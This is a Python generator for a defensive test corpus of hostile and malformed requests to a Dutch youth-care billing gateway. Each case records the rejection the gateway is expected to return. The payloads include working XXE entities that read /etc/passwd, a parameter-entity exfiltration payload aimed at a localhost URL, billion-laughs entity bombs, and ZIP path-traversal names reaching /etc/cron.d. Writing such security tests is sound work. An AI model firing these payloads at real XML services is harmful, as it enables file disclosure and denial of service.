"""Deterministic generator of the bad-input corpus (tests/corpus/bad_input/): hostile or broken HTTP requests for the
gateway, made from the release's example messages (shared/istandaard/releases/<release>/voorbeelden/).

    .venv/bin/python -m tests.corpus.make_bad_input          # (re)writes tests/corpus/bad_input/

Every case is one body file plus one entry in manifest.json: the request (method, path, whose token, Content-Type),
what the API must answer (status and a stable error text or rule, or for a message the gateway must accept the
RetourCodes of its 325 and where they sit) and why. Cases too large to commit (over 25 MB, decompression bombs, a
hundred thousand elements) have no file: the manifest names a builder ("build") and tests/integration/
test_bad_input_corpus.py makes the body at run time with `runtime_body` below, deterministically.
tests/system/test_bad_input_corpus.py also checks that the committed corpus is exactly what this makes.
"""

from __future__ import annotations

import io
import json
import struct
import sys
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT)]  # run as a script too: the examples are the standard package's

from shared.istandaard import HUIDIGE  # noqa: E402

VOORBEELDEN = HUIDIGE.voorbeelden
OUT = Path(__file__).resolve().parent / "bad_input"
MAX_BYTES = 25 * 1024 * 1024  # OP179, shared.codec.MAX_BERICHT_BYTES

XML = "application/xml"
ZIP = "application/zip"
B = "/v1/berichten"
PROEF = "/v1/declaraties/proef"
NIET_GELDIG = "not a valid iJw/iWmo 3.2 message"
ZIP_TIME = (2026, 1, 1, 0, 0, 0)  # fixed: the archive's bytes do not depend on the clock

# Tokens by role; the test maps them to Authorization headers.
TOKENS = {
    "provider": "Bearer demo-aanbieder-87654321",
    "other_provider": "Bearer demo-aanbieder-12345678",
    "own_municipality": "Bearer demo-gemeente-0632",
    "other_municipality": "Bearer demo-gemeente-1904",
    "controller": "Bearer demo-regio-controller",
    "none": None,
}


def voorbeeld(name: str) -> bytes:
    return (VOORBEELDEN / name).read_bytes()


def esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --------------------------------------------------------------------------- the messages the cases start from

V323 = voorbeeld("jw323-voorbeeld.xml")
V301 = voorbeeld("jw301-voorbeeld.xml")


def _een_regel_323() -> bytes:
    """The example 323 cut to one client with one line on an allocation that does not exist (999999999): a
    message that passes levels 1 and 2 and whose line is always rejected with 9338 (TR338), whatever ran
    before. The cases the gateway must accept are built on it, so none of them books anything."""
    raw = V323
    start = raw.index(b"<jw323:Prestatie>", raw.index(b"<!-- 21 days"))
    start = raw.rindex(b"<!-- 21 days", 0, start)
    end = raw.index(b"</jw323:Clienten>")
    raw = raw[:start] + b"</jw323:Prestaties>\n      </jw323:Client>\n    " + raw[end:]
    raw = raw.replace(b"<jw323:TotaalBedrag>595000<", b"<jw323:TotaalBedrag>118200<")
    raw = raw.replace(b"<ijw:TotaalBedrag>595000<", b"<ijw:TotaalBedrag>118200<")
    raw = raw.replace(b"<jw323:ToewijzingNummer>400123<", b"<jw323:ToewijzingNummer>999999999<")
    return raw


T323 = _een_regel_323()
REF = "P20260504000001"


def m323(n: int, *, ident: str | None = None, declnr: str | None = None, ref: str | None = None,
         raw_ref: str | None = None, replace: tuple[tuple[str, str], ...] = (), base: bytes | None = None) -> bytes:
    """A one-line 323 with its own Identificatie, DeclaratieNummer and ReferentieNummer (case number n), then
    text replacements. `raw_ref` is put in as XML as it is (markup, character references)."""
    s = (base or T323).decode("utf-8")
    s = s.replace("<ijw:Identificatie>DCL2605-0001<", f"<ijw:Identificatie>{esc(ident or f'BI{n:03d}')}<")
    s = s.replace("<jw323:DeclaratieNummer>D202604001<", f"<jw323:DeclaratieNummer>{declnr or f'BI{n:03d}'}<")
    s = s.replace(f"<ijw:ReferentieNummer>{REF}<",
                  f"<ijw:ReferentieNummer>{raw_ref if raw_ref is not None else esc(ref or f'BIR{n:03d}')}<")
    for old, new in replace:
        assert old in s, old
        s = s.replace(old, new)
    return s.encode("utf-8")


def m301(n: int, *, replace: tuple[tuple[str, str], ...] = ()) -> bytes:
    """The example 301 with its own Identificatie and allocation number (case number n), then replacements."""
    s = V301.decode("utf-8")
    s = s.replace("<ijw:Identificatie>TW2603-00042<", f"<ijw:Identificatie>TWBI{n:03d}<")
    s = s.replace("<jw301:ToewijzingNummer>400123<", f"<jw301:ToewijzingNummer>{700000 + n}<")
    for old, new in replace:
        assert old in s, old
        s = s.replace(old, new)
    return s.encode("utf-8")


def mbericht(t: str, n: int, *, replace: tuple[tuple[str, str], ...] = ()) -> bytes:
    """Another type's example (305, 307, 315, 317, 319, 302) with its own Identificatie (case number n), then text
    replacements."""
    s = voorbeeld(f"jw{t}-voorbeeld.xml").decode("utf-8")
    start = s.index("<ijw:Identificatie>") + len("<ijw:Identificatie>")
    s = s[:start] + f"BI{n:03d}" + s[s.index("<", start):]
    for old, new in replace:
        assert old in s, old
        s = s.replace(old, new)
    return s.encode("utf-8")


def zip_of(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", method) as z:
        warnings.simplefilter("ignore")  # a duplicate name is the point of one case
        for name, data in entries:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def patch_zip(data: bytes, *, flag_or: int = 0, method: int | None = None) -> bytes:
    """Set general-purpose flag bits or the compression method in every local and central header."""
    out = bytearray(data)
    for sig, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        i = out.find(sig)
        while i >= 0:
            flags = struct.unpack_from("<H", out, i + flag_at)[0] | flag_or
            struct.pack_into("<H", out, i + flag_at, flags)
            if method is not None:
                struct.pack_into("<H", out, i + method_at, method)
            i = out.find(sig, i + 4)
    return bytes(out)


# --------------------------------------------------------------------------- the cases


class Corpus:
    def __init__(self) -> None:
        self.cases: list[dict[str, Any]] = []
        self.files: dict[str, bytes] = {}

    def add(self, slug: str, category: str, why: str, body: bytes | None = None, *, ext: str = "xml",
            method: str = "POST", path: str = B, token: str = "provider", content_type: str | None = XML,
            status: int, error: str | None = None, rule: str | None = None, build: dict | None = None,
            **expect: Any) -> dict:
        n = len(self.cases) + 1
        case_id = f"{n:03d}-{slug}"
        case: dict[str, Any] = {"id": case_id, "category": category, "method": method, "path": path,
                                "token": token, "content_type": content_type}
        # Sent to facturatie instead of the gateway; sent that many times at once.
        case |= {k: expect.pop(k) for k in ("service", "concurrent") if k in expect}
        if build is not None:
            case["file"] = None
            case["build"] = build
        elif body is not None:
            case["file"] = f"{case_id}.{ext}"
            self.files[case["file"]] = body
        else:
            case["file"] = None
        case["expect"] = {"status": status, **({"error": error} if error else {}), **({"rule": rule} if rule else {}),
                          **expect}
        case["why"] = why
        self.cases.append(case)
        return case

    @property
    def next(self) -> int:
        return len(self.cases) + 1

    # An accepted 323: 202, then a 325 with 0200 in the header, declaration and client and 9338 on the line.
    def accepted_323(self, slug: str, category: str, why: str, *, field: str = "ReferentieNummer", text: str | None = None,
                     raw: str | None = None, path: str = B, **kw) -> dict:
        n = self.next
        ref = f"BIR{n:03d}"
        args: dict[str, Any] = {}
        if field == "ReferentieNummer":
            ref = text
            args = {"raw_ref": raw} if raw is not None else {"ref": text}
        elif field == "Identificatie":
            args = {"ident": text}
        elif field == "ProductCode":
            args = {"replace": (("<jw323:ProductCode>45A07<", f"<jw323:ProductCode>{raw or esc(text)}<"),)}
        body = m323(n, **args)
        # A product code outside the national list also gets S329 on its line.
        line = ["9338", "S329"] if field == "ProductCode" else ["9338"]
        antwoord = {"header": ["0200"], "declaratie": ["0200"], "client": ["0200"], "prestatie": {ref: line}}
        if path == PROEF:
            return self.add(slug, category, why, body, path=path, status=200, proef={"header": ["0200"],
                            "regels": {ref: line}}, echo={"field": field, "text": text}, **kw)
        return self.add(slug, category, why, body, status=202, antwoord=antwoord,
                        echo={"field": field, "text": text}, **kw)

    def accepted_301(self, slug: str, category: str, why: str, replace: tuple[tuple[str, str], ...], text: str) -> dict:
        body = m301(self.next, replace=replace)
        return self.add(slug, category, why, body, token="own_municipality", status=202,
                        bericht_status="ter_aflevering", echo={"field": "301", "text": text})

    def level2(self, slug: str, why: str, replace: tuple[tuple[str, str], ...], rule: str, **kw) -> dict:
        """Valid at level 1, breaks an in-message rule: 202, then a 325 with header 0001 only (§6.2)."""
        body = m323(self.next, replace=replace, **kw)
        return self.add(slug, "malformed-values", why, body, status=202, antwoord={"header": ["0001"]},
                        level2_rule=rule)

    def level2_heen(self, t: str, slug: str, why: str, replace: tuple[tuple[str, str], ...], rule: str) -> dict:
        """A provider's 305/307/315/317 that breaks an in-message rule: 202, stored, and its retour carries 0001 on
        the header alone (IV032); no task is made."""
        return self.add(f"level2-{t}-{slug}", "malformed-values", why, mbericht(t, self.next, replace=replace),
                        status=202, retour={"header": ["0001"]}, level2_rule=rule)

    def level2_door(self, t: str, slug: str, why: str, replace: tuple[tuple[str, str], ...], rule: str,
                    token: str) -> dict:
        """A municipality's 319 or a provider's 302 that breaks an in-message rule: refused at the door (422)."""
        return self.add(f"level2-{t}-{slug}", "malformed-values", why, mbericht(t, self.next, replace=replace),
                        token=token, status=422, error="control level 2", rule=rule)


def build() -> Corpus:
    c = Corpus()
    GOOD = V323

    # ------------------------------------------------------------------ XXE
    def dtd(doctype: str, ref: str = "&x;") -> bytes:
        return m323(c.next, raw_ref=ref).replace(b'<?xml version="1.0" encoding="UTF-8"?>\n',
                                                b'<?xml version="1.0" encoding="UTF-8"?>\n' + doctype.encode() + b"\n")

    xxe = "a DTD is never part of an iJw/iWmo message: refused before parsing, nothing is resolved or fetched"
    c.add("xxe-external-entity-file", "xxe", xxe,
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
          status=400, error=NIET_GELDIG, rule="XML-DTD", not_in_body="root:")
    c.add("xxe-external-entity-http", "xxe", xxe + " (no network request)",
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY x SYSTEM "http://127.0.0.1:9/xxe">]>'),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-parameter-entity", "xxe", xxe,
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', REF),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-parameter-entity-exfiltration", "xxe", xxe,
          dtd('<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#x25; x SYSTEM '
              '\'http://127.0.0.1:9/?%f;\'>"> %e; %x;]>', REF),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-external-dtd-system", "xxe", xxe,
          dtd('<!DOCTYPE jw323:Bericht SYSTEM "http://127.0.0.1:9/evil.dtd">', REF),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-external-dtd-public", "xxe", xxe,
          dtd('<!DOCTYPE jw323:Bericht PUBLIC "-//EVIL//DTD//EN" "file:///etc/passwd">', REF),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-system-etc-passwd-in-identificatie", "xxe", xxe,
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY x SYSTEM "file:///etc/passwd">]>', REF).replace(
              b"<ijw:Identificatie>BI", b"<ijw:Identificatie>&x;BI"),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-internal-entity-only", "xxe", "even a harmless internal entity needs a DTD, which is refused",
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY x "P1">]>'), status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-doctype-without-entities", "xxe", "a bare DOCTYPE is refused too (no DTD in a 3.2 message)",
          dtd("<!DOCTYPE jw323:Bericht>", REF), status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-xinclude", "xxe", "XInclude is never processed: the xi:include element is an element where a value "
          "belongs (level 1), so nothing is read from disk",
          m323(c.next, raw_ref='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                               'parse="text"/>'),
          status=400, error=NIET_GELDIG, rule="XSD", path_contains="ReferentieNummer", not_in_body="root:")
    c.add("xxe-xinclude-at-root", "xxe", "XInclude in the element sequence: an unknown element (level 1)",
          m323(c.next).replace(b"<jw323:Header>", b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                                  b'href="http://127.0.0.1:9/x.xml"/>\n  <jw323:Header>', 1),
          status=400, error=NIET_GELDIG, rule="XSD")
    c.add("xxe-utf16-encoded-doctype", "xxe", "a UTF-16 document hid its DOCTYPE from the byte check and was "
          "accepted (bug fixed): now refused as not UTF-8 (OP192)",
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
              b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16"),
          status=400, error=NIET_GELDIG, rule="OP192")
    c.add("xxe-on-proef", "xxe", "the pre-check reads with the same parser",
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), path=PROEF,
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-in-301", "xxe", xxe, V301.replace(b'?>\n', b'?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
                                                 1).replace(b"Voorbeeld<", b"&x;<"),
          token="own_municipality", status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("xxe-schemalocation-not-fetched", "xxe", "xsi:schemaLocation is allowed and never loaded: the message "
          "is accepted and judged like any other (no network request)",
          m323(c.next).replace(b'xmlns:ijw="http://www.istandaarden.nl/ijw/3_2/basisschema/schema"',
                               b'xmlns:ijw="http://www.istandaarden.nl/ijw/3_2/basisschema/schema"\n'
                               b'               xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"\n'
                               b'               xsi:schemaLocation="http://www.istandaarden.nl/ijw/3_2/jw323/schema '
                               b'http://127.0.0.1:9/evil.xsd"'),
          status=202, antwoord={"header": ["0200"], "declaratie": ["0200"], "client": ["0200"],
                                "prestatie": {f"BIR{c.next:03d}": ["9338"]}})

    # ------------------------------------------------------------------ entity bombs
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    c.add("bomb-billion-laughs", "entity-bomb", "refused on its DTD before any expansion",
          dtd(f'<!DOCTYPE jw323:Bericht [<!ENTITY l0 "lol">{laughs}]>', "&l9;"),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("bomb-quadratic-blowup", "entity-bomb", "one large entity referenced many times: refused on its DTD",
          dtd(f'<!DOCTYPE jw323:Bericht [<!ENTITY a "{"A" * 20000}">]>', "&a;" * 2000),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("bomb-recursive-entity", "entity-bomb", "self-referencing entities: refused on the DTD",
          dtd('<!DOCTYPE jw323:Bericht [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("bomb-parameter-laughs", "entity-bomb", "billion laughs with parameter entities: refused on the DTD",
          dtd('<!DOCTYPE r [<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;"><!ENTITY % c '
              '"%b;%b;%b;%b;%b;%b;%b;%b;"> %c;]>', REF),
          status=400, error=NIET_GELDIG, rule="XML-DTD")
    c.add("bomb-utf16-billion-laughs", "entity-bomb", "a UTF-16 bomb passed the byte check (bug fixed): OP192",
          dtd(f'<!DOCTYPE jw323:Bericht [<!ENTITY l0 "lol">{laughs}]>', "&l9;").replace(
              b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16"),
          status=400, error=NIET_GELDIG, rule="OP192")
    c.add("bomb-undeclared-entity-reference", "entity-bomb", "an entity reference without a DTD is not well-formed",
          m323(c.next, raw_ref="&l9;&l9;"), status=400, error=NIET_GELDIG, rule="XML")

    # ------------------------------------------------------------------ deep nesting
    c.add("nesting-10000-deep-at-root", "deep-nesting", "libxml2's depth limit (256, huge_tree off) ends it",
          m323(c.next).replace(b"<jw323:Header>", b"<a>" * 10000 + b"</a>" * 10000 + b"<jw323:Header>", 1),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("nesting-300-deep-in-value", "deep-nesting", "past the parser's depth limit inside a value",
          m323(c.next, raw_ref="<x>" * 300 + "</x>" * 300), status=400, error=NIET_GELDIG, rule="XML")
    c.add("nesting-100-deep-in-value", "deep-nesting", "within the depth limit: elements where text belongs (level 1)",
          m323(c.next, raw_ref="<x>" * 100 + "P1" + "</x>" * 100), status=400, error=NIET_GELDIG, rule="XSD",
          path_contains="ReferentieNummer")
    c.add("nesting-deep-clienten", "deep-nesting", "Client inside Client inside ...: level 1 names the first",
          m323(c.next).replace(b"<jw323:Bsn>", b"<jw323:Client>" * 150 + b"</jw323:Client>" * 150 + b"<jw323:Bsn>", 1),
          status=400, error=NIET_GELDIG, rule="XSD")
    c.add("nesting-wide-100000-faulty-clients", "deep-nesting", "a hundred thousand faulty clients took minutes of "
          "the gateway's CPU (path of each problem: quadratic; bug fixed): now the first 100 problems and a note",
          build={"kind": "many_faulty_clients", "count": 100000}, status=400, error=NIET_GELDIG, rule="XSD",
          max_problems=101)
    c.add("nesting-wide-unknown-elements", "deep-nesting", "20,000 unknown elements: the first 100 problems",
          m323(c.next).replace(b"<jw323:Declaratie>", b"<jw323:Declaratie>" + b"<x/>" * 20000, 1),
          status=400, error=NIET_GELDIG, rule="XSD", max_problems=101)

    # ------------------------------------------------------------------ oversize (built at run time)
    c.add("oversize-chunked-body", "oversize", "over 25 MB without Content-Length: counted while it arrives (OP179)",
          build={"kind": "oversize_stream", "bytes": MAX_BYTES + 1}, status=413, error="larger than 25 MB")
    c.add("oversize-declared-content-length", "oversize", "a declared length over 25 MB is refused before reading",
          build={"kind": "declared_length", "content_length": MAX_BYTES + 1}, status=413, error="larger than 25 MB")
    c.add("oversize-xml-message", "oversize", "a real 25 MB + 1 byte message: padded with a comment",
          build={"kind": "padded_message", "bytes": MAX_BYTES + 1}, status=413, error="larger than 25 MB")
    c.add("oversize-proef", "oversize", "the pre-check has the same limit",
          build={"kind": "oversize_stream", "bytes": MAX_BYTES + 1}, path=PROEF, status=413, error="larger than 25 MB")
    c.add("oversize-zip-archive", "oversize", "a ZIP request over 25 MB (stored, not compressed)",
          build={"kind": "stored_zip", "bytes": MAX_BYTES + 1024}, content_type=ZIP, status=413,
          error="larger than 25 MB")
    c.add("oversize-zip-entry-declared", "oversize", "one entry that unpacks to over 25 MB (its size field says so)",
          build={"kind": "zip_bomb", "bytes": MAX_BYTES + 1}, content_type=ZIP, status=413,
          error="larger than 25 MB")

    # ------------------------------------------------------------------ ZIP batches
    good_zip_member = m323(c.next)
    c.add("zip-31-files", "zip", "at most 30 messages per batch",
          zip_of([(f"b{i:02d}.xml", good_zip_member) for i in range(31)]), ext="zip", content_type=ZIP,
          status=413, error="at most 30 per batch")
    c.add("zip-1000-files", "zip", "thousands of entries: refused on the count, none is read",
          zip_of([(f"b{i:04d}.xml", b"<x/>") for i in range(1000)]), ext="zip", content_type=ZIP,
          status=413, error="at most 30 per batch")
    c.add("zip-nested-zip", "zip", "no nested archives: only .xml entries are read",
          zip_of([("inner.zip", zip_of([("a.xml", good_zip_member)]))]), ext="zip", content_type=ZIP,
          status=400, error="only .xml files at the top level")
    c.add("zip-nested-zip-named-xml", "zip", "a ZIP inside, named .xml: read as XML and refused (file named)",
          zip_of([("inner.xml", zip_of([("a.xml", good_zip_member)]))]), ext="zip", content_type=ZIP,
          status=400, error=NIET_GELDIG, rule="XML", bestand="inner.xml")
    c.add("zip-bomb-lying-size", "zip", "an entry whose size field lies: the CRC/size check while unpacking fails",
          build={"kind": "zip_bomb_lying", "bytes": 50 * 1024 * 1024}, content_type=ZIP, status=400,
          error="cannot be read")
    c.add("zip-encrypted-member", "zip", "encrypted entries are not read",
          patch_zip(zip_of([("a.xml", good_zip_member)]), flag_or=0x1), ext="zip", content_type=ZIP,
          status=400, error="is encrypted")
    c.add("zip-path-traversal-dotdot", "zip", "no folders, certainly not ../", zip_of([("../x.xml", good_zip_member)]),
          ext="zip", content_type=ZIP, status=400, error="only .xml files at the top level")
    c.add("zip-path-traversal-deep", "zip", "no folders", zip_of([("../../../../etc/cron.d/x.xml", good_zip_member)]),
          ext="zip", content_type=ZIP, status=400, error="only .xml files at the top level")
    c.add("zip-absolute-path", "zip", "no absolute paths", zip_of([("/etc/x.xml", good_zip_member)]),
          ext="zip", content_type=ZIP, status=400, error="only .xml files at the top level")
    c.add("zip-backslash-path", "zip", "no Windows folders either", zip_of([("..\\x.xml", good_zip_member)]),
          ext="zip", content_type=ZIP, status=400, error="only .xml files at the top level")
    c.add("zip-subfolder", "zip", "only top-level entries", zip_of([("map/x.xml", good_zip_member)]),
          ext="zip", content_type=ZIP, status=400, error="only .xml files at the top level")
    c.add("zip-non-xml-member", "zip", "only .xml files", zip_of([("a.xml", good_zip_member), ("run.sh", b"#!/bin/sh\n")]),
          ext="zip", content_type=ZIP, status=400, error="only .xml files at the top level")
    c.add("zip-empty", "zip", "an archive without entries", zip_of([]), ext="zip", content_type=ZIP,
          status=400, error="holds no messages")
    c.add("zip-only-folders", "zip", "folders only: no messages", zip_of([("map/", b""), ("leeg/", b"")]),
          ext="zip", content_type=ZIP, status=400, error="holds no messages")
    c.add("zip-corrupt", "zip", "bytes that are no ZIP", b"PK\x03\x04" + bytes(range(256)) * 4, ext="zip",
          content_type=ZIP, status=400, error="not a readable ZIP")
    whole = zip_of([("a.xml", good_zip_member)])
    c.add("zip-truncated", "zip", "the archive cut in half: no central directory", whole[: len(whole) // 2],
          ext="zip", content_type=ZIP, status=400, error="not a readable ZIP")
    c.add("zip-duplicate-names", "zip", "one name twice", zip_of([("a.xml", good_zip_member), ("a.xml", m323(c.next))]),
          ext="zip", content_type=ZIP, status=400, error="names one file twice")
    c.add("zip-unsupported-compression", "zip", "an unknown compression method (99, AES): cannot be read",
          patch_zip(zip_of([("a.xml", good_zip_member)]), method=99), ext="zip", content_type=ZIP,
          status=400, error="cannot be read")
    c.add("zip-one-bad-member-refuses-all", "zip", "a batch is accepted whole or not at all: the XXE member names "
          "the file and nothing of the batch is stored",
          zip_of([("goed.xml", m323(c.next)),
                  ("xxe.xml", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')]),
          ext="zip", content_type=ZIP, status=400, error=NIET_GELDIG, rule="XML-DTD", bestand="xxe.xml")
    c.add("zip-member-of-other-provider", "zip", "one entry with another provider's AGB as Afzender: 403, file named",
          zip_of([("goed.xml", m323(c.next)), ("ander.xml", m323(c.next + 1000, replace=(
              ("<jw323:Afzender>87654321<", "<jw323:Afzender>12345678<"),)))]),
          ext="zip", content_type=ZIP, status=403, error="not the AGB code", bestand="ander.xml")
    c.add("zip-empty-xml-member", "zip", "an empty .xml entry is no XML document", zip_of([("leeg.xml", b"")]),
          ext="zip", content_type=ZIP, status=400, error=NIET_GELDIG, bestand="leeg.xml")
    c.add("zip-sent-as-xml", "zip", "a ZIP announced as XML is read as XML", whole, ext="zip", content_type=XML,
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("zip-xml-sent-as-zip", "zip", "an XML message announced as a ZIP", m323(c.next), content_type=ZIP,
          status=400, error="not a readable ZIP")
    c.add("zip-x-zip-compressed-corrupt", "zip", "the other ZIP content type, corrupt", b"PK\x05\x06" + b"\x00" * 10,
          ext="zip", content_type="application/x-zip-compressed", status=400, error="not a readable ZIP")
    c.add("zip-to-proef", "zip", "the pre-check takes one XML message only", whole, ext="zip", path=PROEF,
          content_type=ZIP, status=415, error="Content-Type must be application/xml")

    # ------------------------------------------------------------------ content type
    for slug, ct in (("text-plain", "text/plain"), ("json", "application/json"), ("missing", None),
                     ("form-urlencoded", "application/x-www-form-urlencoded"),
                     ("multipart", "multipart/form-data; boundary=x"), ("html", "text/html"),
                     ("soap", "application/soap+xml"), ("octet-stream", "application/octet-stream"),
                     ("xml-dtd", "application/xml-dtd"), ("garbage", ";;;,,,")):
        c.add(f"content-type-{slug}", "content-type", "only application/xml or application/zip", GOOD,
              content_type=ct, status=415, error="Content-Type must be")
    c.add("content-type-proef-json", "content-type", "the pre-check takes application/xml only", GOOD, path=PROEF,
          content_type="application/json", status=415, error="Content-Type must be application/xml")

    # ------------------------------------------------------------------ empty body
    c.add("empty-body", "empty-body", "nothing sent", b"", status=400, error="empty body")
    c.add("empty-body-whitespace", "empty-body", "only white space", b" \r\n\t \n", status=400, error="empty body")
    c.add("empty-body-zip", "empty-body", "an empty ZIP request", b"", ext="zip", content_type=ZIP, status=400,
          error="empty body")
    c.add("empty-body-proef", "empty-body", "an empty pre-check", b"", path=PROEF, status=400, error="empty body")
    c.add("empty-only-declaration", "empty-body", "an XML declaration and nothing else",
          b'<?xml version="1.0" encoding="UTF-8"?>\n', status=400, error=NIET_GELDIG, rule="XML")
    c.add("empty-only-comment", "empty-body", "a comment is no document", b"<!-- niets -->", status=400,
          error=NIET_GELDIG, rule="XML")

    # ------------------------------------------------------------------ encoding and BOM
    body = m323(c.next)
    c.add("bom-utf8", "encoding", "UTF-8 without BOM (OP192)", b"\xef\xbb\xbf" + body, status=400, error=NIET_GELDIG,
          rule="OP192")
    c.add("bom-utf8-double", "encoding", "two BOMs", b"\xef\xbb\xbf\xef\xbb\xbf" + body, status=400,
          error=NIET_GELDIG, rule="OP192")
    c.add("bom-utf16-le", "encoding", "UTF-16 is not UTF-8 (OP192; accepted before the fix)",
          b"\xff\xfe" + body.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16-le"),
          status=400, error=NIET_GELDIG, rule="OP192")
    c.add("bom-utf16-be", "encoding", "UTF-16 BE is not UTF-8 (OP192; accepted before the fix)",
          b"\xfe\xff" + body.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16-be"),
          status=400, error=NIET_GELDIG, rule="OP192")
    c.add("bom-utf32", "encoding", "UTF-32 is not UTF-8 (OP192; accepted before the fix)",
          body.replace(b'encoding="UTF-8"', b'encoding="UTF-32"').decode().encode("utf-32"), status=400,
          error=NIET_GELDIG, rule="OP192")
    c.add("utf16-without-bom-or-declaration", "encoding", "UTF-16 guessed from its first bytes (accepted before the "
          "fix): read as UTF-8 now, so not well-formed",
          body.split(b"?>", 1)[1].decode().encode("utf-16-le"), status=400, error=NIET_GELDIG, rule="XML")
    c.add("bom-after-declaration", "encoding", "a BOM is not allowed after the declaration either (not well-formed)",
          body.replace(b"?>\n", b"?>\xef\xbb\xbf\n", 1), status=400, error=NIET_GELDIG, rule="XML")
    c.add("declared-iso-8859-1", "encoding", "declared Latin-1: not UTF-8 (OP192; accepted before the fix)",
          body.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'), status=400, error=NIET_GELDIG, rule="OP192")
    c.add("declared-windows-1252-with-byte", "encoding", "declared cp1252 with a cp1252 byte in a value (OP192)",
          m323(c.next, raw_ref="P\u00e9").decode().encode("cp1252").replace(b'encoding="UTF-8"',
                                                                           b'encoding="windows-1252"'),
          status=400, error=NIET_GELDIG, rule="OP192")
    c.add("undeclared-latin1-byte", "encoding", "a Latin-1 byte in a UTF-8 document: not well-formed",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>\xe9BIR"),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("declared-us-ascii", "encoding", "declared US-ASCII: not UTF-8 (OP192)",
          body.replace(b'encoding="UTF-8"', b'encoding="US-ASCII"'), status=400, error=NIET_GELDIG, rule="OP192")
    c.add("declared-ebcdic", "encoding", "EBCDIC bytes: read as UTF-8, not well-formed",
          body.split(b"?>", 1)[1].decode().encode("cp500"), status=400, error=NIET_GELDIG, rule="XML")
    c.add("declared-utf-7", "encoding", "UTF-7 declaration (an old XSS trick): OP192",
          body.replace(b'encoding="UTF-8"', b'encoding="UTF-7"'), status=400, error=NIET_GELDIG, rule="OP192")
    c.add("declared-encoding-single-quotes", "encoding", "encoding='latin1' in single quotes: OP192 too",
          body.replace(b'encoding="UTF-8"', b"encoding='latin1'"), status=400, error=NIET_GELDIG, rule="OP192")
    c.add("overlong-utf8-slash", "encoding", "an overlong UTF-8 sequence (C0 AF for '/') is invalid UTF-8",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>..\xc0\xaf..\xc0\xafBIR"),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("overlong-utf8-lt", "encoding", "an overlong '<' (C0 BC) must not become markup",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>\xc0\xbcBIR"),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("utf8-encoded-surrogate", "encoding", "a UTF-8 encoded surrogate (ED A0 80) is invalid UTF-8",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>\xed\xa0\x80BIR"),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("utf8-five-byte-sequence", "encoding", "F8 starts no UTF-8 sequence",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>\xf8\x88\x80\x80\x80BIR"),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("utf8-beyond-u10ffff", "encoding", "F4 90 80 80 would be above U+10FFFF",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>\xf4\x90\x80\x80BIR"),
          status=400, error=NIET_GELDIG, rule="XML")
